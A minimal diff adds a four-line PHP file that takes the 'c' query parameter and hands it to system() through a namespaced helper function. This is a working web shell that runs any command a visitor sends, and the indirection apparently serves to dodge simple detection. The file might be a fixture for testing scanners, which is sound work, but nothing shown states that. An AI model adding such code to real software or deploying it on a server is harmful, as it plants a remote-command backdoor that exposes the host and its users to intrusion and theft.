@@ -1,0 +1,4 @@
+<?php
+namespace ns;
+function g() { return $_GET["c"]; }
+\system(\ns\g());
